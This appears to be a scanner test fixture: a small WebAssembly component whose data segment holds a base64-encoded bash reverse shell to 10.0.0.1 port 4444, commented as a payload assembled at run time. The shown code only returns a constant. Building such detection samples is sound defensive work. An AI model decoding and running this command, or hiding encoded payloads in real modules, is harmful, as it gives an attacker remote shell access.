;; The same in base 64.
;; scanner: structure
;; unseen: the payload is put together when it runs
(component
  (core module $m
    (memory (export "memory") 1)
    (data (i32.const 64) "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=")
    (func (export "run") (result i32) (i32.const 7)))
  (core instance $i (instantiate $m))
  (func $run (result u32) (canon lift (core func $i "run")))
  (instance $acts (export "run" (func $run)))
  (export "acme:tool/acts@1.0.0" (instance $acts)))
